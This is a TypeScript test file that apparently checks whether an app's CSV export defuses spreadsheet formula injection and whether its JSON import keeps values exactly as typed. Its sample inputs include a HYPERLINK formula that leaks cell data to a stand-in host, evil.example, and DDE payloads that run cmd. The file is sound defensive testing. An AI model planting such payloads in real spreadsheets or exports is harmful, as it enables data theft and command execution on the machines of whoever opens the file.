import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dataExportSchema, type Goal, type Habit } from '@stride/domain';
import { verifiedUser } from '../../test/auth-flows.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';
import { testEngines } from '../../test/test-database.js';
import { fromSpreadsheetSafe, readCsv } from './csv.js';

/** What a person (or someone who wants to attack whoever opens the file) may type. */
const GOAL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const HABIT = '+cmd|\' /C calc\'!A0';
const DESCRIPTION = '-2+3';
const VISION = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe.each(testEngines())('CSV export and formula injection (issue 38) on %s', (engine) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(engine);
  });
  afterAll(() => t.close());

  it('CSV export cells starting with = + - @ are written as text, never a formula, and read back as what was typed; the JSON export imports them unchanged', async () => {
    const client = t.client();
    const { user } = await verifiedUser(t, client);
    expect((await client.request('POST', '/api/goals', { name: GOAL, description: DESCRIPTION })).statusCode).toBe(201);
    const habit = await client.request('POST', '/api/habits', {
      userId: user.id,
      name: HABIT,
      description: '@home workout',
      startTime: '2026-11-23T07:00:00Z',
      endTime: '2026-11-23T07:30:00Z',
      recurrence: 'daily',
    });
    expect(habit.statusCode).toBe(201);
    expect((await client.request('POST', '/api/visions', { userId: user.id, text: VISION })).statusCode).toBeLessThan(300);

    const res = await client.request('GET', '/api/export?format=csv');
    expect(res.statusCode).toBe(200);
    const files = unzipSync(new Uint8Array(res.rawPayload));
    const read = (name: string) => readCsv(new TextDecoder().decode(files[name]));
    // No cell of any file starts as a formula would.
    for (const name of Object.keys(files)) {
      for (const row of read(name)) for (const cell of row) expect({ name, cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ name, cell, formula: false });
    }
    const goals = read('goals.csv');
    expect(goals[1]![1]).toBe(`'${GOAL}`);
    expect(goals[1]![2]).toBe(`'${DESCRIPTION}`);
    // Our own file reads back as what was typed.
    expect(fromSpreadsheetSafe(goals[1]![1]!)).toBe(GOAL);
    const habits = read('habits.csv');
    expect(habits.slice(1).map((row) => [fromSpreadsheetSafe(row[2]!), fromSpreadsheetSafe(row[3]!)])).toEqual([[HABIT, '@home workout']]);
    expect(fromSpreadsheetSafe(read('vision.csv')[1]![0]!)).toBe(VISION);

    // The JSON export (the one that imports) is data, not a spreadsheet: unchanged, and imported as typed.
    const json = dataExportSchema.parse(JSON.parse((await client.request('GET', '/api/export?format=json')).body));
    expect(json.goals.map((g) => g.name)).toEqual([GOAL]);
    const other = t.client();
    const { user: second } = await verifiedUser(t, other);
    const imported = await other.request('POST', '/api/import', JSON.stringify(json), { 'content-type': 'application/json' });
    expect(imported.statusCode).toBe(201);
    expect((await other.request('GET', `/api/goals/user/${second.id}`)).json<Goal[]>().map((g) => [g.name, g.description])).toEqual([[GOAL, DESCRIPTION]]);
    expect((await other.request('GET', `/api/habits/user/${second.id}`)).json<Habit[]>().map((h) => [h.name, h.description])).toEqual([[HABIT, '@home workout']]);
  });
});
